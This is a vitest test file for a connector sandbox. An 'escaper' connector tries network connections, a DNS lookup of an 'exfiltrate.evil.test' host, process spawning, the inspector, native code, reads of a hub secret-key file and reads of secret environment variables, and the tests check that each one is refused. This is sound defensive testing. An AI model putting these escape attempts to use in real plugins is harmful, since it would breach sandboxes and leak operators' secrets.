import { createServer as createHttpServer, type Server } from 'node:http';
import { createSocket, type Socket } from 'node:dgram';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import pino from 'pino';
import { createTestHub, type TestHub } from '../../core/src/testing/harness.js';
import { createBooks } from '../../hub/src/connectors/books.js';
import { createCatalog, type Catalog } from '../../hub/src/connectors/catalog.js';
import { createConnectorRuntime, DEFAULT_TIMEOUTS, type ConnectorRuntime, type FailureReport } from '../../hub/src/connectors/runtime.js';
import { HandlerFailure } from '../../hub/src/connectors/worker/connector-worker.js';
import { connectorFolder, connectorSource, testManifest, type ConnectorFolder } from './fixtures.js';

/** Tries Node's own ways out of the sandbox, one per mode, against a local server whose host it may or may not declare. */
const ESCAPER = connectorSource({
  top: `import http from 'node:http';
import https from 'node:https';
import net from 'node:net';
import tls from 'node:tls';
import dgram from 'node:dgram';
import dns from 'node:dns';
import inspector from 'node:inspector';
import { spawn, execSync } from 'node:child_process';
import { Worker } from 'node:worker_threads';
import fs from 'node:fs';
import { readFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
const settle = (start) => new Promise((resolve, reject) => start(resolve, reject));`,
  action: `
    const { port, udpPort } = input;
    switch (input.mode) {
      case 'http': return await settle((ok, ko) => http.get('http://127.0.0.1:' + port + '/', (res) => { res.resume(); res.on('end', () => ok({ status: res.statusCode })); }).on('error', ko));
      case 'https': return await settle((ok, ko) => https.get('https://127.0.0.1:' + port + '/', () => ok('connected')).on('error', ko));
      case 'lookup': return await settle((ok, ko) => http.get({ host: 'api.sample.test', port, path: '/', lookup: (h, o, cb) => (o && o.all ? cb(null, [{ address: '127.0.0.1', family: 4 }]) : cb(null, '127.0.0.1', 4)) }, () => ok('connected')).on('error', ko));
      case 'net': return await settle((ok, ko) => net.connect({ port, host: '127.0.0.1' }, () => ok('connected')).on('error', ko));
      case 'net-args': return await settle((ok, ko) => net.connect(port, '127.0.0.1', () => ok('connected')).on('error', ko));
      case 'tls': return await settle((ok, ko) => tls.connect({ port, host: '127.0.0.1' }, () => ok('connected')).on('error', ko));
      case 'dgram': { const s = dgram.createSocket('udp4'); s.send('hello', udpPort, '127.0.0.1'); return 'sent'; }
      case 'dns': return await dns.promises.resolveTxt('exfiltrate.evil.test');
      case 'spawn': spawn('sh', ['-c', 'echo escaped']); return 'spawned';
      case 'exec': return String(execSync('echo escaped'));
      case 'worker': new Worker('1', { eval: true }); return 'started';
      case 'binding': return typeof process.binding('fs');
      case 'dlopen': process.dlopen({ exports: {} }, '/nonexistent/addon.node'); return 'loaded';
      case 'inspector': { const session = new inspector.Session(); session.connectToMainThread(); return 'attached'; }
      case 'read-sync': return readFileSync(input.path, 'utf8');
      case 'read-promise': return await readFile(input.path, 'utf8');
      case 'read-callback': return await settle((ok, ko) => fs.readFile(input.path, 'utf8', (e, text) => (e ? ko(e) : ok(text))));
      case 'read-url': return readFileSync(new URL('file://' + input.path), 'utf8');
      case 'list': return fs.readdirSync(path.dirname(input.path));
      case 'write': fs.writeFileSync(input.path, 'overwritten'); return 'written';
      case 'link': { const link = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'escape-')), 'key'); fs.symlinkSync(input.path, link); return readFileSync(link, 'utf8'); }
      case 'own': return JSON.parse(readFileSync(new URL('../connector.json', import.meta.url), 'utf8')).id;
      case 'env': return { secret: process.env.HUB_SECRET_KEY ?? null, database: process.env.DATABASE_URL ?? null };
      default: return null;
    }`,
});

let hub: TestHub;
let folder: ConnectorFolder;
let catalog: Catalog;
let open: ConnectorRuntime;
let strict: ConnectorRuntime;
let server: Server;
let udp: Socket;
let port: number;
let udpPort: number;
let connections = 0;
let datagrams = 0;
const failures: FailureReport[] = [];
let org: string;
/** Stands for the hub's data folder, with its secret key; the connectors' folder is protected too. */
let dataDir: string;
const SECRET = 'the-hub-secret-key-in-its-file';

const call = (runtime: ConnectorRuntime, connectorId: string, mode: string, extra: Record<string, unknown> = {}): Promise<unknown> =>
  runtime.invoke({ connectorId, version: '1.0.0', organizationId: org, credentials: { apiKey: 'key-0123456789' }, config: {}, cause: { source: 'IMPORT' }, kind: 'action', name: 'echo', args: [{ mode, port, udpPort, ...extra }], timeoutMs: 10_000 });
const refusal = async (p: Promise<unknown>): Promise<HandlerFailure> => {
  const error = await p.then((value: unknown) => value, (e: unknown) => e);
  expect(error).toBeInstanceOf(HandlerFailure);
  return error as HandlerFailure;
};

beforeAll(async () => {
  process.env['HUB_SECRET_KEY'] = 'the-hub-secret-key-0123456789';
  server = createHttpServer((_req, res) => res.end('ok'));
  server.on('connection', () => void (connections += 1));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  port = (server.address() as AddressInfo).port;
  udp = createSocket('udp4');
  udp.on('message', () => void (datagrams += 1));
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
  udpPort = udp.address().port;
  hub = await createTestHub();
  org = (await hub.createOrganization('Sandboxed')).id;
  dataDir = mkdtempSync(join(tmpdir(), 'uah-data-'));
  writeFileSync(join(dataDir, 'secret.key'), SECRET);
  folder = connectorFolder();
  folder.add('escaper', { source: ESCAPER });
  folder.add('declared', { source: ESCAPER, manifest: testManifest('declared', { allowedHosts: ['127.0.0.1'] }) });
  const protectedPaths = [dataDir, folder.root];
  catalog = await createCatalog({ search: { paths: [folder.root] }, limits: { maxOldGenerationSizeMb: 96 }, loadTimeoutMs: 20_000, protectedPaths });
  const runtime = (allowPrivate: boolean): ConnectorRuntime => createConnectorRuntime({
    catalog, books: createBooks(hub.core.services), knex: hub.db.knex, logger: pino({ level: 'silent' }), limits: { maxOldGenerationSizeMb: 96 },
    timeouts: DEFAULT_TIMEOUTS, idleMs: 60_000, loadTimeoutMs: 20_000, allowPrivate, protectedPaths, onFailure: (report) => void failures.push(report),
  });
  open = runtime(true);
  strict = runtime(false);
}, 60_000);
afterAll(async () => {
  await open.stop();
  await strict.stop();
  delete process.env['HUB_SECRET_KEY'];
  server.close();
  udp.close();
  folder.remove();
  rmSync(dataDir, { recursive: true, force: true });
  await hub.close();
});

describe("a connector's worker", () => {
  it('loads with the sandbox in place', () => {
    expect(catalog.get('escaper')?.available).toBe(true);
  });

  it.each(['http', 'https', 'lookup', 'net', 'net-args', 'tls'])('refuses a %s connection to a host the manifest does not declare; nothing reaches the server', async (mode) => {
    const before = failures.length;
    const failure = await refusal(call(open, 'escaper', mode));
    expect(failure.reason).toBe('THREW');
    // The declared host's lookup is the guard's own: the connector's fake DNS answer is ignored.
    expect(failure.message).toMatch(mode === 'lookup' ? /api\.sample\.test does not resolve/ : /127\.0\.0\.1, a host the manifest does not declare in allowedHosts, is not allowed/);
    expect(failures.slice(before)).toMatchObject([{ organizationId: org, connectorId: 'escaper', kind: 'action', reason: 'THREW' }]);
    expect(connections).toBe(0);
  });

  it.each([
    ['dgram', /a UDP socket is not allowed/],
    ['dns', /resolving exfiltrate\.evil\.test, a host the manifest does not declare/],
    ['spawn', /starting a process is not allowed/],
    ['exec', /starting a process is not allowed/],
    ['worker', /starting a worker thread is not allowed/],
    ['binding', /native code/],
    ['dlopen', /native code/],
    ['inspector', /the inspector is not allowed/],
  ])('refuses %s, and counts it as the connector failing', async (mode, message) => {
    const before = failures.length;
    expect((await refusal(call(open, 'escaper', mode))).message).toMatch(message);
    expect(failures.slice(before)).toMatchObject([{ connectorId: 'escaper', reason: 'THREW', message: expect.stringMatching(message) }]);
    expect(datagrams).toBe(0);
    expect(connections).toBe(0);
  });

  it.each(['read-sync', 'read-promise', 'read-callback', 'read-url', 'list', 'write', 'link'])("refuses the hub's files to %s, and counts it as the connector failing", async (mode) => {
    const before = failures.length;
    const failure = await refusal(call(open, 'escaper', mode, { path: join(dataDir, 'secret.key') }));
    expect(failure.message).toMatch(/is not open to a connector/);
    expect(failure.message).not.toContain(SECRET);
    expect(failures.slice(before)).toMatchObject([{ connectorId: 'escaper', reason: 'THREW' }]);
    expect(readFileSync(join(dataDir, 'secret.key'), 'utf8')).toBe(SECRET);
  });

  it("lets a connector read its own folder, never another connector's", async () => {
    expect(await call(open, 'escaper', 'own')).toBe('escaper');
    expect((await refusal(call(open, 'escaper', 'read-sync', { path: join(folder.root, 'declared', 'connector.json') }))).message).toMatch(/is not open to a connector/);
  });

  it("shows the connector none of the hub's environment", async () => {
    expect(await call(open, 'escaper', 'env')).toEqual({ secret: null, database: null });
  });

  it('lets a declared host through node:http and node:net, and still refuses it as a private address when private targets are not allowed', async () => {
    expect(await call(open, 'declared', 'http')).toEqual({ status: 200 });
    expect(await call(open, 'declared', 'net')).toBe('connected');
    // The server counts a connection when its own event loop accepts it, which can come after the worker saw it open.
    await new Promise((resolve) => setTimeout(resolve, 300));
    const reached = connections;
    expect(reached).toBeGreaterThanOrEqual(2);
    expect((await refusal(call(strict, 'declared', 'http'))).message).toMatch(/connecting to 127\.0\.0\.1 is refused: 127\.0\.0\.1 is a loopback address/);
    expect(connections).toBe(reached);
  });
});
